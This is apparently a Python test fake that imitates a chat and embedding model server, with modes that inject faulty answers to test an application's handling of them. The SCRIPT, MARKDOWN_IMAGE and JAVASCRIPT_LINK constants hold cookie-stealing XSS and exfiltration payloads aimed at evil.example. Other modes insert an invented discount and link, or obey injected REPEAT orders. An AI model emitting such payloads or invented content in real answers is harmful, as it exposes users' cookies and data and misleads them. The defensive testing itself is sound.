"""What the fake model says, and the vectors it gives. Pure functions of the request. Standard library only."""

from __future__ import annotations

import array
import base64
import hashlib
import html
import math
import re

from tests.fakes.model_modes import Behaviour, Mode

PASSAGE = re.compile(r'<passage n="(\d+)"[^>]*>(.*?)</passage>', re.DOTALL)
REPEAT = re.compile(r"REPEAT:\s*([^\n<]+)")
QUOTE_LENGTH = 300
ECHO_LENGTH = 120
HUGE_LENGTH = 5_000_000
DIMENSIONS = 256

INVENTED_NUMBER = "987654321"
INVENTED_LINK = "https://invented.example/offre-48213"
SCRIPT = '<script>fetch("https://evil.example/?c=" + document.cookie)</script><img src=x onerror="alert(1)">'
MARKDOWN_IMAGE = "![photo](https://evil.example/pixel.png?q=secret)"
JAVASCRIPT_LINK = "[cliquez ici](javascript:alert(document.cookie))"
ADDITIONS = {
    Mode.INVENTED: f" Votre remise est de {INVENTED_NUMBER} euros : {INVENTED_LINK}",
    Mode.SCRIPT: f" {SCRIPT}",
    Mode.MARKDOWN_IMAGE: f" {MARKDOWN_IMAGE}",
    Mode.JAVASCRIPT_LINK: f" {JAVASCRIPT_LINK}",
}

Body = dict[str, object]


def messages(body: Body) -> list[tuple[str, str]]:
    """(role, text) of each message of a chat request, oldest first; the text parts of a multi-part content joined."""
    found = body.get("messages")
    if not isinstance(found, list):
        return []
    return [(str(one.get("role")), _text(one.get("content"))) for one in found if isinstance(one, dict)]


def _text(content: object) -> str:
    if isinstance(content, list):
        return "\n".join(str(part.get("text", "")) for part in content if isinstance(part, dict))
    return "" if content is None else str(content)


def question(body: Body) -> str:
    """The last user message, or the texts to embed."""
    given = body.get("input")
    if given is not None:
        return "\n".join(map(str, given)) if isinstance(given, list) else str(given)
    return next((text for role, text in reversed(messages(body)) if role == "user"), "")


def said(behaviour: Behaviour, body: Body) -> str:
    """The words of the answer, before any fault of the wire."""
    plain = behaviour.text if behaviour.text is not None else quote(body)
    match behaviour.mode:
        case Mode.EMPTY:
            return ""
        case Mode.OBEY:
            return " ".join(_orders(body)) or plain
        case Mode.NUL:
            return f"{plain[:10]}\x00{plain[10:]}"
        case Mode.HUGE:
            return (plain + " ") * (HUGE_LENGTH // (len(plain) + 1) + 1)
    return plain + ADDITIONS.get(behaviour.mode, "")


def quote(body: Body) -> str:
    """The first passage of the latest message that has one, cut at a sentence, with its number.

    Without any passage, the last user message's own beginning: it says nothing new either.
    """
    for _, text in reversed(messages(body)):
        found = PASSAGE.search(text)
        if found:
            return f"{_first_sentences(html.unescape(found[2]))} [{found[1]}]"
    return f"Vous écrivez : {_one_line(question(body))[:ECHO_LENGTH]}"


def _first_sentences(text: str) -> str:
    line = _one_line(text)
    if len(line) <= QUOTE_LENGTH:
        return line
    end = line.rfind(". ", 0, QUOTE_LENGTH)
    return line[: end + 1] if end > 0 else line[: line.rfind(" ", 0, QUOTE_LENGTH)]


def _one_line(text: str) -> str:
    return " ".join(text.split())


def _orders(body: Body) -> list[str]:
    return [order.strip() for _, text in messages(body) for order in REPEAT.findall(text)]


def tokens(text: str) -> list[str]:
    """The text in pieces as a model streams it: words with the space before them; large texts in 64 kB pieces."""
    if len(text) > HUGE_LENGTH // 2:
        return [text[start : start + 65536] for start in range(0, len(text), 65536)]
    return re.findall(r"\s*\S+|\s+$", text)


def usage(body: Body, answer: str) -> dict[str, int]:
    """Tokens as the server bills them: a quarter of the characters, never none."""
    prompt = max(1, sum(len(text) for _, text in messages(body)) // 4)
    completion = max(1, len(answer) // 4)
    return {"prompt_tokens": prompt, "completion_tokens": completion, "total_tokens": prompt + completion}


def vector(text: str, dimensions: int) -> list[float]:
    """A unit vector that only depends on the text's words, so texts that share words are near one another."""
    values = [0.0] * dimensions
    for word in re.findall(r"\w+", text.lower()) or [""]:
        digest = hashlib.sha256(word.encode()).digest()
        for start in range(0, 16, 4):
            place = int.from_bytes(digest[start : start + 4], "big") % dimensions
            values[place] += 1.0 if digest[16 + start] % 2 else -1.0
    norm = math.sqrt(sum(value * value for value in values)) or 1.0
    return [value / norm for value in values]


def embedding(text: str, body: Body, dimensions: int | None) -> list[float] | str:
    """The vector in the encoding asked for: a list, or base64 of little-endian 32-bit floats."""
    asked = body.get("dimensions")
    values = vector(text, dimensions or (asked if isinstance(asked, int) else DIMENSIONS))
    if body.get("encoding_format") == "base64":
        return base64.b64encode(array.array("f", values).tobytes()).decode()
    return values
